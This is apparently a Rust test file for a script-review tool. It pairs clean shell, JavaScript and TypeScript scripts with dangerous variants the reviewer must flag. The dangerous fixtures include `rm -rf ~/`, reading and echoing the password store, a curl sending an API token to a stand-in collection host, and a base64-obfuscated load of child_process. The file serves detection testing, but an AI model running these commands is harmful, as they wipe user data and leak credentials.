//! An eighth round: causes of false alarms found on clean scripts taken from real repositories.
//! Each row is written for this test (not copied from those scripts): the clean case of the
//! cause, and next to it the case the rule must still catch.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "test code: a failed unwrap is a failed test"
)]

use crate::review;
use terraphim_script_review::{Language, Verdict};

use Language::{JavaScript as Js, Shell as Sh, TypeScript as Ts};
use Verdict::{Clean, Dangerous, Suspicious};

/// (language, script, verdict, a rule one finding of that verdict must have; "" when clean)
type Row = (Language, &'static str, Verdict, &'static str);

#[track_caller]
fn run(rows: &[Row]) {
    for (lang, code, verdict, rule) in rows {
        let report = review(*lang, code);
        assert_eq!(report.verdict, *verdict, "{lang} `{code}`\n{report:#?}");
        if !rule.is_empty() {
            assert!(
                report
                    .findings
                    .iter()
                    .any(|f| f.severity == *verdict && f.rule == *rule),
                "{lang} `{code}`: no {verdict} finding of rule {rule}\n{report:#?}"
            );
        }
    }
}

#[test]
fn a_call_of_the_scripts_own_function_is_not_the_program_of_that_name() {
    run(&[
        // `pass` and `fail` as the script's own result counters, not the password store.
        (
            Sh,
            "ok=0\npass() { echo \"ok: $1\"; ok=$((ok + 1)); }\nfor f in build/*.bin; do\n  pass \"$f\"\ndone\necho \"$ok passed\"\n",
            Clean,
            "",
        ),
        // Without such a function, `pass show` reads the password store.
        (
            Sh,
            "pw=$(pass show deploy/db)\necho \"$pw\"\n",
            Dangerous,
            "secret-to-output",
        ),
        // The function's own body is still reviewed where it is defined.
        (Sh, "wipe() { rm -rf ~/; }\nwipe\n", Dangerous, ""),
    ]);
}

#[test]
fn code_whose_every_text_is_known_is_reviewed_as_each_text() {
    run(&[
        // A template over each name of a literal list.
        (
            Js,
            "const { execSync } = require('child_process');\nconst parts = ['alpha.res', 'beta.res'];\nparts.forEach((p) => {\n  execSync(`pkgtool add ${p} bundle.dat`, { cwd: 'vendor/data' });\n});\n",
            Clean,
            "",
        ),
        (
            Js,
            "const { execSync } = require('child_process');\nfor (const p of ['alpha.res', 'beta.res']) execSync(`pkgtool add ${p} bundle.dat`);\n",
            Clean,
            "",
        ),
        // A choice between two literal words.
        (
            Js,
            "const { execSync } = require('child_process');\nconst viaNpx = process.argv.includes('--npx');\nconst exe = execSync('command -v ' + (viaNpx ? 'npx' : 'shellcheck')).toString().trim();\nconsole.log(exe);\n",
            Clean,
            "",
        ),
        // Each alternative is reviewed: one that wipes the home directory is caught.
        (
            Js,
            "const { execSync } = require('child_process');\nfor (const d of ['dist', '~']) execSync(`rm -rf ${d}`);\n",
            Dangerous,
            "",
        ),
        // A part nobody knows still makes the command unknown.
        (
            Js,
            "const { execSync } = require('child_process');\nexecSync(`pkgtool add ${process.argv[2]}`);\n",
            Suspicious,
            "unknown-exec",
        ),
    ]);
}

#[test]
fn a_json_import_is_data() {
    run(&[
        (
            Ts,
            "async function size(file: string) {\n  const meta = (await import(file, { with: { type: 'json' } })).default;\n  return meta.bytes;\n}\nconsole.log(await size(process.argv[2]));\n",
            Clean,
            "",
        ),
        (
            Js,
            "const load = async (p) => (await import(p, { assert: { type: 'json' } })).default;\nload(process.argv[2]).then(console.log);\n",
            Clean,
            "",
        ),
        // Without the JSON type the module's code runs.
        (
            Js,
            "const load = async (p) => (await import(p)).default;\nload(process.argv[2]).then(console.log);\n",
            Suspicious,
            "",
        ),
    ]);
}

#[test]
fn tokens_of_documentation_hosts_and_vendor_libraries() {
    run(&[
        // A Read the Docs token to readthedocs.org.
        (
            Sh,
            "curl -fsS -H \"Authorization: Token $RTD_API_TOKEN\" https://readthedocs.org/api/v3/projects/demo/redirects/ | jq length\n",
            Clean,
            "",
        ),
        // A Slack token handed to the client class of Slack's own library, and the reply of
        // its method printed.
        (
            Ts,
            "import { WebClient } from 'npm:@slack/web-api@7';\nconst token = Deno.env.get('SLACK_BOT_TOKEN');\nconst slack = new WebClient(token);\nconst reply = await slack.chat.postMessage({ token, channel: '#builds', text: 'green' });\nconsole.log(reply.ok);\n",
            Clean,
            "",
        ),
        // The same token handed to another library's class is no use of it.
        (
            Ts,
            "import { Uploader } from 'npm:some-uploader@1';\nconst token = Deno.env.get('SLACK_BOT_TOKEN');\nconst up = new Uploader(token);\nconsole.log(up);\n",
            Dangerous,
            "secret-to-output",
        ),
        // A token sent to a host that is not its service's stays dangerous.
        (
            Sh,
            "curl -fsS -H \"Authorization: Token $RTD_API_TOKEN\" https://collect.example.net/in\n",
            Dangerous,
            "",
        ),
    ]);
}

#[test]
fn a_require_made_by_create_require_is_require() {
    run(&[
        // `require.resolve` of a package's manifest, then loaded: JSON data.
        (
            Js,
            "import { createRequire } from 'node:module';\nconst require = createRequire(import.meta.url);\nconst manifest = require.resolve('@scope/tool/package.json');\nconsole.log(Object.keys(require(manifest).dependencies));\n",
            Clean,
            "",
        ),
        // Loading a module by a name assembled from decoded text is still caught.
        (
            Js,
            "import { createRequire } from 'node:module';\nconst require = createRequire(import.meta.url);\nconst cp = require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString());\ncp.execSync('id');\n",
            Dangerous,
            "",
        ),
    ]);
}
